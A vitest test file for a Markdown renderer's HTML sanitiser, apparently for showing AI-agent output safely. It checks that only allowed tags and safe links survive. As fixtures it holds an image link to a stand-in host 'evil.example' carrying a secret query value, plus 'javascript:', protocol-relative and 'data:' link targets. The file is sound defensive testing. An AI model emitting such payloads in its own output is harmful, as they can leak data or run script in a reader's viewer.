import { expect, test } from "vitest";

import { PAYLOADS } from "../../tests/payloads";
import { BlockReader } from "./blocks";
import { blockHtml } from "./render";
import { sanitise } from "./sanitise";

function render(markdown: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = new BlockReader().read(markdown, false).map(blockHtml).join("");
  return box;
}

const ALLOWED = new Set(
  "a b blockquote br code del details em h1 h2 h3 h4 h5 h6 hr i input kbd li ol p pre s span strong sub summary sup table tbody td th thead tr ul".split(
    " ",
  ),
);

function checkInert(box: HTMLElement): void {
  for (const element of box.querySelectorAll("*")) {
    expect(ALLOWED.has(element.localName), element.outerHTML).toBe(true);
    for (const { name, value } of element.attributes) {
      expect(name.startsWith("on"), element.outerHTML).toBe(false);
      expect(["src", "srcset", "style", "srcdoc", "id", "name"], element.outerHTML).not.toContain(
        name,
      );
      if (name === "href") {
        expect(value, element.outerHTML).toMatch(/^(?:https?|mailto):/i);
      }
    }
  }
}

/** S27: whatever an agent writes, nothing of it runs and nothing of it is fetched. */
test.each(PAYLOADS)("as Markdown, %j is inert", (payload) => {
  checkInert(render(payload));
  checkInert(render(`before ${payload} after`));
  checkInert(render(`- ${payload}\n- [${payload}](https://example.com)`));
  checkInert(render(`| a |\n| - |\n| ${payload.replaceAll("\n", " ")} |`));
});

/** S27: the gate itself, without the renderer in front of it. */
test.each(PAYLOADS)("as HTML, %j is inert", (payload) => {
  const box = document.createElement("div");
  box.innerHTML = sanitise(payload);
  checkInert(box);
});

/** S29: a picture would tell its server that somebody looked. */
test("pictures are named, not fetched", () => {
  const box = render("![the plan](https://evil.example/p.png?secret=1)");
  expect(box.querySelector("img")).toBeNull();
  expect(box.textContent).toContain("the plan");
  expect(box.querySelector("a")?.href).toBe("https://evil.example/p.png?secret=1");
});

/** S29: what leads away does so without a trace and in its own tab. */
test("links lead away safely, or nowhere", () => {
  const link = render("[x](https://example.com/a?b=1&c=2)").querySelector("a");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(link?.target).toBe("_blank");
  expect(link?.href).toBe("https://example.com/a?b=1&c=2");
  for (const address of [
    "javascript:alert(1)",
    "src/main.rs",
    "//evil.example",
    "data:text/html,x",
  ]) {
    const box = render(`[words](${address})`);
    expect(box.querySelector("a")).toBeNull();
    expect(box.textContent).toContain("words");
  }
});

test("words in angle brackets that are no tags are shown", () => {
  expect(render("use Vec<String> and <thinking>this</thinking>").textContent?.trim()).toBe(
    "use Vec<String> and <thinking>this</thinking>",
  );
  expect(render("press <kbd>C</kbd>").querySelector("kbd")?.textContent).toBe("C");
});

test("boxes of task lists cannot be ticked, and are the only fields", () => {
  const box = render("- [x] done\n- [ ] open");
  const fields = [...box.querySelectorAll("input")];
  expect(fields.map((field) => [field.type, field.checked, field.disabled])).toEqual([
    ["checkbox", true, true],
    ["checkbox", false, true],
  ]);
});
